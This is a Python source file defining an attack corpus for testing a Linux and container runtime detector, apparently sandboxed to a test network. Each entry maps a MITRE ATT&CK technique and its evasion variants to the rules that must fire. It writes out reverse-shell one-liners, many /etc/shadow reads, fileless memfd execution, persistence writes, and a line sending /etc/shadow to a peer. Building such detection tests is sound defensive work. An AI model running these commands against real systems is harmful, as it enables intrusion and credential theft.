# ruff: noqa: E501 - one behaviour per line reads best as a table
"""The attack corpus: small, safe actions across MITRE ATT&CK for Linux and containers, each with
the default rule(s) that must report it, and evasion variants of the classics.

Safe: files are written only in the run's scratch directory (under /tmp), or created in system
directories and removed at once; connections go only to the generator's test host (a network
namespace on this machine, 192.0.2.0/24) and containers run with --network none. An action is
either an argv (run as is, `@X` placeholders filled in: @S scratch, @TAG unique tag, @HELPER the
C helper, @HOST/@PORT the test host) or a function of the Lab. Where an action reuses one of the
generator's, it is named by the generator's action name.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tiercel.generator import (  # noqa: F401 - register
    actions_container,
    actions_host,
    actions_net,
)
from tiercel.generator.base import REGISTRY, Context

HERE = Path(__file__).resolve().parent
PY = "/usr/bin/python3"  # by path: a PATH shim (pyenv) would run a script, not the interpreter
RSFU = "Read sensitive file untrusted"
WBE = "Write below etc"
WBB = "Write below binary dir"
OUT = "Outbound connection from shell or interpreter"
REDIR = "Redirect STDOUT/STDIN to network connection"
FILELESS = "Fileless execution via memfd_create"
SETNS = "Change thread namespace"
UNSHARE = "Change namespace privileges via unshare"


@dataclass
class Lab:
    """What the actions of one run share: the generator's context, the C helper, the test host."""

    ctx: Context
    helper: str
    target: tuple[str, int] | None = None
    keep: list[subprocess.Popen[bytes]] = field(default_factory=list)

    def fill(self, s: str) -> str:
        host, port = self.target or ("192.0.2.2", 8080)
        return (s.replace("@S", str(self.ctx.scratch)).replace("@TAG", self.ctx.tag)
                .replace("@HELPER", self.helper).replace("@HOST", host).replace("@PORT", str(port)))

    def run(self, argv: tuple[str, ...], cwd: str | None = None) -> int:
        p = subprocess.run([self.fill(a) for a in argv], cwd=cwd, stdin=subprocess.DEVNULL,
                           stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=60)
        return p.returncode

    def sleeper(self) -> int:
        p = subprocess.Popen(["sleep", "30"])
        self.keep.append(p)
        return p.pid

    def close(self) -> None:
        for p in self.keep:
            p.kill()
            p.wait()


def build_helper(into: Path) -> str | None:
    """Compile helper.c; None when no C compiler is here."""
    if not shutil.which("gcc"):
        return None
    out = into / "attack-helper"
    subprocess.run(["gcc", "-O1", "-o", str(out), str(HERE / "helper.c")], check=True)
    return str(out)


Action = tuple[str, ...] | Callable[[Lab], object]


@dataclass(frozen=True)
class Behaviour:
    tactic: str                 # MITRE ATT&CK tactic
    technique: str              # technique id
    name: str                   # the classic action
    variant: str                # plain, interpreter, renamed, relative, openat2, execveat, symlink, ...
    rules: tuple[str, ...]      # every one must fire
    action: Action
    where: str = "host"         # host | network (needs the test host) | container
    wait: bool = False          # its alert comes asynchronously (container start): wait for it
    unseen: str | None = None   # why this kernel/machine cannot show it (skipped, with the reason)
    needs: str | None = None    # a file that must exist here (skipped without it)
    miss: dict[str, str] = field(default_factory=dict)  # expected rule -> why it does not fire yet

    @property
    def id(self) -> str:
        return f"{self.name} [{self.variant}]"

    def perform(self, lab: Lab) -> None:
        if callable(self.action):
            self.action(lab)
        else:
            lab.run(self.action)


def gen(name: str) -> Callable[[Lab], object]:
    """One of the generator's actions."""
    def run(lab: Lab) -> object:
        return REGISTRY[name].run(lab.ctx)
    run.generator_action = name  # type: ignore[attr-defined]
    return run


def py(code: str) -> tuple[str, ...]:
    return (PY, "-c", code)


def sh(script: str) -> tuple[str, ...]:
    return ("sh", "-c", script)


def _renamed(prog: str, new: str, *args: str) -> Callable[[Lab], object]:
    """A copy of a system program under another name in the scratch directory, run with args."""
    def run(lab: Lab) -> None:
        src = f"/usr/bin/{prog}" if os.path.exists(f"/usr/bin/{prog}") else shutil.which(prog) or prog
        dst = lab.ctx.scratch / new
        if not dst.exists():
            shutil.copy(os.path.realpath(src), dst)
        lab.run((str(dst), *args))
    return run


def _relative(cwd: str, *argv: str) -> Callable[[Lab], object]:
    return lambda lab: lab.run(argv, cwd=lab.fill(cwd))


def _symlink_then(target: str, link: str, *argv: str) -> Callable[[Lab], object]:
    def run(lab: Lab) -> None:
        p = Path(lab.fill(link))
        p.unlink(missing_ok=True)
        p.symlink_to(lab.fill(target))
        try:
            lab.run(argv)
        finally:
            p.unlink(missing_ok=True)
    return run


def _hardlink_then(target: str, link: str, *argv: str) -> Callable[[Lab], object]:
    def run(lab: Lab) -> None:
        p = Path(lab.fill(link))
        p.unlink(missing_ok=True)
        os.link(lab.fill(target), p)
        try:
            lab.run(argv)
        finally:
            p.unlink(missing_ok=True)
    return run


def _proc_file(leaf: str, how: str) -> Callable[[Lab], object]:
    """Open /proc/PID/<leaf> of a sleeping child with `how` (cat, python3)."""
    def run(lab: Lab) -> None:
        path = f"/proc/{lab.sleeper()}/{leaf}"
        lab.run(("cat", path) if how == "cat" else py(f"open({path!r}, 'rb').read(1)"))
    return run


def _ptrace(lab: Lab) -> None:
    pid = lab.sleeper()
    lab.run(py(actions_host.PTRACE + f"pt(16, {pid}, None, None); os.waitpid({pid}, os.WUNTRACED | 0x40000000); pt(17, {pid}, None, None)"))


def _memfd(prog: str, *args: str) -> Callable[[Lab], object]:
    def run(lab: Lab) -> None:
        exe = os.path.realpath(shutil.which(prog) or prog)
        lab.run(py(f"import os; fd = os.memfd_create('x'); os.write(fd, open({exe!r}, 'rb').read()); "
                   f"os.execv(f'/proc/self/fd/{{fd}}', ['{prog}', *{list(args)!r}])"))
    return run


def _nsenter_new_uts(lab: Lab) -> None:
    """nsenter into the UTS namespace of a child that `unshare -u` made (waits until it is there)."""
    p = subprocess.Popen(["unshare", "-u", "sleep", "30"])
    lab.keep.append(p)
    end = deadline(5)
    mine = os.readlink("/proc/self/ns/uts")
    while time.monotonic() < end and p.poll() is None:
        try:
            if os.readlink(f"/proc/{p.pid}/ns/uts") != mine:
                break
        except OSError:
            pass
        time.sleep(0.01)
    lab.run(("nsenter", "-t", str(p.pid), "-u", "true"))


def _in_container(*argv: str) -> Callable[[Lab], object]:
    def run(lab: Lab) -> None:
        name = actions_container.container(lab.ctx)
        subprocess.run(["docker", "exec", name, *argv], stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)
    return run


THREAD = "import threading; t = threading.Thread(target=lambda: {}); t.start(); t.join()"
REV_PY = "import socket, os; s = socket.create_connection(('@HOST', @PORT), timeout=5); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); s.close()"
REV_BASH = "exec 3<>/dev/tcp/@HOST/@PORT; sh -c true <&3 >&3; exec 3>&-"
REV_PERL = "use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '@HOST:@PORT', Timeout => 5) or die; open(STDIN, '<&', $s); close $s"
REV_NODE = "const s = require('net').connect(@PORT, '@HOST', () => s.end()); s.on('error', () => {})"
WRITE_ETC = "open('/etc/@TAG', 'w').write('x'); import os; os.unlink('/etc/@TAG')"
WRITE_BIN = "open('/usr/local/bin/@TAG', 'w').write('x'); import os; os.unlink('/usr/local/bin/@TAG')"

CA, EX, PE, PR, DE, DI, LM, EXF, IM = ("credential-access", "execution", "privilege-escalation", "persistence",
                                       "defense-evasion", "discovery", "lateral-movement", "exfiltration", "impact")

BEHAVIOURS: list[Behaviour] = [
    # --- credential access: /etc/shadow and friends, through every path to the file ---------------
    Behaviour(CA, "T1003.008", "read /etc/shadow", "plain (cat)", (RSFU,), gen("read-sensitive-file")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "interpreter (python3 -c)", (RSFU,), py("open('/etc/shadow').read()")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "interpreter (perl -e)", (RSFU,), ("perl", "-e", "open(F, '<', '/etc/shadow') or die; <F>")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "sh builtin (read <)", (RSFU,), sh("read x < /etc/shadow")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "renamed copy of cat", (RSFU,), _renamed("cat", "kitty", "/etc/shadow")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "relative path after chdir", (RSFU,), _relative("/etc", "cat", "shadow")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "dot-dot path", (RSFU,), ("cat", "/tmp/../etc/./shadow")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "openat2", (RSFU,), ("@HELPER", "openat2", "/etc/shadow", "r")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "execveat of cat", (RSFU,), ("@HELPER", "execveat", "/usr/bin/cat", "cat", "/etc/shadow")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "symlink to it", ("Create symlink over sensitive files", RSFU), action=_symlink_then("/etc/shadow", "@S/s-link", "cat", "@S/s-link")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "hard link to it", ("Create hardlink over sensitive files", RSFU), action=_hardlink_then("/etc/shadow", "@S/h-link", "cat", "@S/h-link")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "memfd exec of cat", (FILELESS, RSFU), _memfd("cat", "/etc/shadow")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "short-lived orphan", (RSFU,), sh("(cat /etc/shadow > /dev/null &)")),
    Behaviour(CA, "T1003.008", "read /etc/shadow", "thread", (RSFU,), py(THREAD.format("open('/etc/shadow').read()"))),
    Behaviour(CA, "T1003.008", "read /etc/gshadow", "dd", (RSFU,), ("dd", "if=/etc/gshadow", "of=/dev/null", "count=1")),
    Behaviour(CA, "T1548.003", "read /etc/sudoers", "plain (head)", (RSFU,), ("head", "-c1", "/etc/sudoers"), needs="/etc/sudoers"),
    Behaviour(CA, "T1552.004", "read an SSH host key", "plain (cat)", (RSFU,), ("cat", "/etc/ssh/ssh_host_ed25519_key"), needs="/etc/ssh/ssh_host_ed25519_key"),
    Behaviour(CA, "T1003.008", "read the /etc/shadow backup", "tail", (RSFU,), ("tail", "-c1", "/etc/shadow-"), needs="/etc/shadow-"),
    Behaviour(CA, "T1552.001", "read cloud credentials", "plain (cat)", ("Read cloud credentials",), gen("read-cloud-credentials")),
    Behaviour(CA, "T1552.001", "read cloud credentials", "interpreter (python3 -c)", ("Read cloud credentials",), sh("mkdir -p @S/py/.aws && echo k > @S/py/.aws/credentials && python3 -c \"open('@S/py/.aws/credentials').read()\"")),
    Behaviour(CA, "T1552.004", "search private keys", "find -name id_rsa", ("Search private keys or passwords",), gen("search-private-keys")),
    Behaviour(CA, "T1552.004", "search private keys", "grep BEGIN RSA PRIVATE", ("Search private keys or passwords",), ("grep", "-rl", "BEGIN RSA PRIVATE", "@S")),
    Behaviour(CA, "T1003.007", "read another process's memory", "python3", ("Access to another process's memory",), _proc_file("mem", "python3")),
    Behaviour(CA, "T1003.007", "read another process's memory", "renamed copy of python3", ("Access to another process's memory",), lambda lab: _renamed("python3", "memdump", "-c", f"open('/proc/{lab.sleeper()}/mem', 'rb').close()")(lab)),
    Behaviour(CA, "T1055.008", "ptrace attach", "python3 ctypes", ("PTRACE attached to process",), _ptrace),
    Behaviour(CA, "T1003.008", "read /etc/shadow in a container", "container (cat)", (RSFU,), gen("read-sensitive-file-in-container"), where="container"),
    # --- execution ------------------------------------------------------------------------------
    Behaviour(EX, "T1059.004", "server spawns a shell", "nginx -> sh", ("Run shell untrusted",), gen("server-spawns-shell")),
    Behaviour(EX, "T1059.004", "server spawns a shell", "node -> bash", ("Run shell untrusted",), lambda lab: lab.ctx.helper("import subprocess; subprocess.run(['bash', '-c', 'true'])", name="node")),
    Behaviour(EX, "T1059.004", "netcat with -e", "nc -e", ("Netcat remote code execution",), gen("netcat-exec")),
    Behaviour(EX, "T1059.004", "netcat with -e", "socat EXEC", ("Netcat remote code execution",), lambda lab: lab.ctx.helper("pass", name="socat", args=("TCP:192.0.2.2:1", "EXEC:/bin/sh"))),
    Behaviour(EX, "T1059.004", "reverse shell", "bash /dev/tcp", (OUT, REDIR), ("bash", "-c", REV_BASH), where="network"),
    Behaviour(EX, "T1059.006", "reverse shell", "interpreter (python3 -c)", (OUT, REDIR), py(REV_PY), where="network"),
    Behaviour(EX, "T1059", "reverse shell", "interpreter (perl -e)", (OUT, REDIR), ("perl", "-e", REV_PERL), where="network"),
    Behaviour(EX, "T1059.007", "reverse shell", "interpreter (node -e)", (OUT,), ("node", "-e", REV_NODE), where="network"),
    Behaviour(EX, "T1059.006", "reverse shell", "thread", (OUT, REDIR), py(THREAD.format("exec(" + repr(REV_PY) + ")")), where="network"),
    Behaviour(EX, "T1059.006", "reverse shell", "renamed copy of python3 in /tmp", (OUT, REDIR), _renamed("python3", "updater", "-c", REV_PY), where="network"),
    Behaviour(EX, "T1059.004", "reverse shell", "short-lived orphan bash", (OUT,), sh(f"(bash -c '{REV_BASH}' &)"), where="network"),
    Behaviour(EX, "T1620", "fileless execution", "memfd exec (generator)", (FILELESS,), gen("memfd-exec")),
    Behaviour(EX, "T1620", "fileless execution", "execveat of a descriptor", (FILELESS,), ("@HELPER", "execveat", "/usr/bin/true", "true")),
    Behaviour(EX, "T1059.004", "execute from /dev/shm", "plain", ("Execution from /dev/shm",), gen("exec-from-dev-shm")),
    Behaviour(EX, "T1059.004", "execute from /dev/shm", "relative path after chdir", ("Execution from /dev/shm",), lambda lab: (shutil.copy("/usr/bin/true", f"/dev/shm/{lab.ctx.tag}-r"), lab.run((f"./{lab.ctx.tag}-r",), cwd="/dev/shm"), os.unlink(f"/dev/shm/{lab.ctx.tag}-r"))),
    Behaviour(EX, "T1059.004", "execute from /dev/shm", "execveat-dir (relative to a descriptor)", ("Execution from /dev/shm",), lambda lab: (shutil.copy("/usr/bin/true", f"/dev/shm/{lab.ctx.tag}-d"), lab.run(("@HELPER", "execveat-dir", "/dev/shm", f"{lab.ctx.tag}-d", "x")), os.unlink(f"/dev/shm/{lab.ctx.tag}-d"))),
    Behaviour(EX, "T1059.004", "shell in a container", "docker exec -t sh", ("Terminal shell in container",), gen("terminal-shell-in-container"), where="container"),
    Behaviour(EX, "T1059.004", "shell in a container", "docker exec sh -c", ("Non-interactive shell in container",), gen("shell-in-container"), where="container"),
    Behaviour(EX, "T1610", "dropped binary run in a container", "copy to /tmp", ("Drop and execute new binary in container",), gen("drop-and-execute"), where="container"),
    # --- persistence ----------------------------------------------------------------------------
    Behaviour(PR, "T1098", "write below /etc", "plain (generator helper)", (WBE,), gen("write-below-etc")),
    Behaviour(PR, "T1098", "write below /etc", "interpreter (python3 -c)", (WBE,), py(WRITE_ETC)),
    Behaviour(PR, "T1098", "write below /etc", "interpreter named pip", (WBE,), lambda lab: lab.ctx.helper(lab.fill(WRITE_ETC), name="pip")),
    Behaviour(PR, "T1098", "write below /etc", "sh builtin (echo >)", (WBE,), sh("echo x > /etc/@TAG; rm -f /etc/@TAG")),
    Behaviour(PR, "T1098", "write below /etc", "perl -e", (WBE,), ("perl", "-e", "open(F, '>', '/etc/@TAG') or die; print F 'x'; close F; unlink '/etc/@TAG'")),
    Behaviour(PR, "T1098", "write below /etc", "relative path after chdir", (WBE,), _relative("/etc", "sh", "-c", "touch ./@TAG; rm -f @TAG")),
    Behaviour(PR, "T1098", "write below /etc", "openat2", (WBE,), sh("@HELPER openat2 /etc/@TAG w; rm -f /etc/@TAG")),
    Behaviour(PR, "T1098", "write below /etc", "through a symlink in /tmp", (WBE,), _symlink_then("/etc/@TAG", "@S/etc-link", "sh", "-c", "echo x > @S/etc-link; rm -f /etc/@TAG")),
    Behaviour(PR, "T1098", "write below /etc", "thread", (WBE,), py(THREAD.format("exec(" + repr(WRITE_ETC) + ")"))),
    Behaviour(PR, "T1053.003", "cron job", "file in /etc/cron.d", (WBE,), sh("echo '* * * * * root true' > /etc/cron.d/@TAG; rm -f /etc/cron.d/@TAG")),
    Behaviour(PR, "T1543.002", "systemd unit", "file in /etc/systemd/system", (WBE,), sh("echo '[Service]' > /etc/systemd/system/@TAG.service; rm -f /etc/systemd/system/@TAG.service")),
    Behaviour(PR, "T1556.003", "PAM module config", "python3 appends to /etc/pam.d", (WBE,), py("open('/etc/pam.d/@TAG', 'w').write('x'); import os; os.unlink('/etc/pam.d/@TAG')")),
    Behaviour(PR, "T1574.006", "ld.so.preload", "sh builtin", (WBE,), sh("test -e /etc/ld.so.preload || { : > /etc/ld.so.preload; rm -f /etc/ld.so.preload; }")),
    Behaviour(PR, "T1543", "write below a binary dir", "plain (generator helper)", (WBB,), gen("write-below-binary-dir")),
    Behaviour(PR, "T1543", "write below a binary dir", "interpreter (python3 -c) into /usr/local/bin", (WBB,), py(WRITE_BIN)),
    Behaviour(PR, "T1543", "write below a binary dir", "cp", (WBB,), sh("cp /usr/bin/true /usr/local/sbin/@TAG; rm -f /usr/local/sbin/@TAG")),
    Behaviour(PR, "T1036.005", "rename in a binary dir", "plain (generator helper)", ("Rename in binary dir",), gen("rename-in-binary-dir")),
    Behaviour(PR, "T1036.005", "rename in a binary dir", "mv from /tmp", ("Rename in binary dir",), sh("touch @S/m && mv @S/m /usr/local/bin/@TAG; rm -f /usr/local/bin/@TAG")),
    Behaviour(PR, "T1543", "mkdir in a binary dir", "plain (generator helper)", ("Mkdir binary dirs",), gen("mkdir-binary-dir")),
    Behaviour(PR, "T1543", "plain file below /dev", "plain (generator helper)", ("Create files below dev",), gen("create-file-below-dev")),
    Behaviour(PR, "T1543", "plain file below /dev", "sh builtin", ("Create files below dev",), sh("echo x > /dev/@TAG; rm -f /dev/@TAG")),
    Behaviour(PR, "T1547.006", "kernel module load", "init_module (refused)", ("Linux kernel module injection",), gen("kernel-module")),
    Behaviour(PR, "T1098.004", "authorized_keys", "scratch file (incubating rule)", ("Adding ssh keys to authorized_keys",), gen("add-authorized-key")),
    Behaviour(PR, "T1546.004", "shell start-up file", ".bashrc (incubating rule)", ("Modify shell configuration file",), gen("modify-shell-config")),
    Behaviour(PR, "T1053.003", "cron job", "crontab (incubating rule)", ("Schedule cron jobs",), gen("crontab")),
    Behaviour(PR, "T1136.001", "add a user", "useradd (incubating rule)", ("User mgmt binaries",), gen("user-mgmt")),
    # --- privilege escalation -------------------------------------------------------------------
    Behaviour(PE, "T1548.001", "setuid bit", "python3 os.chmod", ("Set setuid or setgid bit",), gen("set-setuid-bit")),
    Behaviour(PE, "T1548.001", "setuid bit", "chmod u+s", ("Set setuid or setgid bit",), sh("touch @S/suid && chmod u+s @S/suid")),
    Behaviour(PE, "T1548.001", "setgid bit", "perl chmod 02755", ("Set setuid or setgid bit",), sh("touch @S/sgid && perl -e 'chmod 02755, \"@S/sgid\"'")),
    Behaviour(PE, "T1548.001", "setuid(0) from a user", "python3", ("Non-root setuid to root",), gen("setuid-root")),
    Behaviour(PE, "T1611", "enter namespaces", "nsenter into a new UTS namespace", (SETNS, UNSHARE), _nsenter_new_uts),
    Behaviour(PE, "T1611", "enter namespaces", "python3 setns", (SETNS,), gen("setns")),
    Behaviour(PE, "T1611", "enter namespaces", "thread", (SETNS,), py(THREAD.format("__import__('ctypes').CDLL(None).setns(__import__('os').open('/proc/self/ns/uts', 0), 0)"))),
    Behaviour(PE, "T1611", "new namespaces", "unshare -U -r true", (UNSHARE,), ("unshare", "-U", "-r", "true")),
    Behaviour(PE, "T1611", "new namespaces", "python3 unshare(CLONE_NEWUTS)", (UNSHARE,), gen("unshare")),
    Behaviour(PE, "T1611", "new namespaces", "renamed copy of unshare", (UNSHARE,), _renamed("unshare", "helperd", "-u", "true")),
    Behaviour(PE, "T1611", "mount in a container", "busybox mount tmpfs", ("Mount in container",), gen("mount-in-container"), where="container"),
    Behaviour(PE, "T1611", "release_agent escape", "write release_agent", ("Detect release_agent file container escapes",), gen("release-agent"), where="container"),
    Behaviour(PE, "T1611", "sensitive host mount", "docker run -v /etc", ("Launch sensitive mount container",), gen("sensitive-mount-container"), where="container", wait=True),
    # --- defense evasion ------------------------------------------------------------------------
    Behaviour(DE, "T1070.002", "truncate a log", "python3 O_TRUNC", ("Clear log activities",), gen("clear-log")),
    Behaviour(DE, "T1070.002", "truncate a log", "sh builtin (: >)", ("Clear log activities",), sh("touch /var/log/@TAG.log && : > /var/log/@TAG.log; rm -f /var/log/@TAG.log")),
    Behaviour(DE, "T1070.003", "delete shell history", "python3 unlink", ("Delete or rename shell history",), gen("delete-shell-history")),
    Behaviour(DE, "T1070.003", "delete shell history", "rm", ("Delete or rename shell history",), sh("touch @S/.bash_history && rm @S/.bash_history")),
    Behaviour(DE, "T1070.003", "delete shell history", "mv away", ("Delete or rename shell history",), sh("touch @S/.zsh_history && mv @S/.zsh_history @S/old")),
    Behaviour(DE, "T1622", "anti-debugging", "PTRACE_TRACEME", ("PTRACE anti-debug attempt",), gen("ptrace-traceme")),
    Behaviour(DE, "T1036", "symlink to a sensitive file", "ln -s", ("Create symlink over sensitive files",), sh("ln -s /etc/shadow @S/sh-l; rm @S/sh-l")),
    Behaviour(DE, "T1036", "hard link to a sensitive file", "python3 os.link", ("Create hardlink over sensitive files",), gen("hardlink-sensitive")),
    # --- discovery / lateral movement -----------------------------------------------------------
    Behaviour(DI, "T1040", "sniff with a packet socket", "python3", ("Packet socket created",), gen("packet-socket")),
    Behaviour(DI, "T1046", "network tool in a container", "nmap (incubating rule)", ("Launch suspicious network tool in container",), gen("network-tool-in-container"), where="container"),
    Behaviour(DI, "T1057", "read another process's environment", "cat (incubating rule)", ("Read environment of another process",), _proc_file("environ", "cat")),
    Behaviour(LM, "T1021", "connect out from a system tool", "process named ls", ("System procs network activity",), gen("system-binary-connects"), where="network"),
    Behaviour(LM, "T1611", "enter a container's namespaces", "nsenter into the test container", (SETNS,), lambda lab: lab.run(("nsenter", "-t", subprocess.run(["docker", "inspect", "-f", "{{.State.Pid}}", actions_container.container(lab.ctx)], capture_output=True, text=True).stdout.strip(), "-u", "true")), where="container"),
    # --- exfiltration / impact ------------------------------------------------------------------
    Behaviour(EXF, "T1048", "send /etc/shadow to a peer", "python3", (RSFU, OUT), py("import socket; s = socket.create_connection(('@HOST', @PORT), timeout=5); s.send(open('/etc/shadow', 'rb').read()[:1]); s.close()"), where="network"),
    Behaviour(EXF, "T1048", "send a file with bash /dev/tcp", "bash", (OUT,), ("bash", "-c", "cat /etc/hostname > /dev/tcp/@HOST/@PORT"), where="network"),
    Behaviour(IM, "T1496", "connect to a mining pool port", "python3 helper", ("Outbound connection to crypto mining pool port",), gen("mining-pool-connection"), where="network"),
    Behaviour(IM, "T1496", "crypto miner", "process named xmrig (incubating rule)", ("Known crypto miner process executed",), gen("miner-process")),
    Behaviour(IM, "T1485", "shred a file", "shred -u (incubating rule)", ("Remove bulk data from disk",), gen("shred-file")),
]


def unavailable(b: Behaviour, lab: Lab | None) -> str | None:
    """Why this behaviour cannot run here, or None."""
    if b.unseen:
        return b.unseen
    if b.needs and not Path(b.needs).exists():
        return f"{b.needs} does not exist on this machine"
    gen_name = getattr(b.action, "generator_action", None)
    if gen_name and (reason := REGISTRY[gen_name].available()):
        return reason
    if b.where == "container" and (reason := actions_container._docker()):
        return reason
    if b.where == "network" and (lab is None or lab.target is None):
        return "no test host (needs root and `ip netns`)"
    if lab is not None and "@HELPER" in repr(b.action) and not lab.helper:
        return "no C compiler for the openat2/execveat helper"
    return None


def deadline(seconds: float) -> float:
    return time.monotonic() + seconds


def scratch() -> Path:
    return Path(tempfile.mkdtemp(prefix="tiercel-attacks-"))
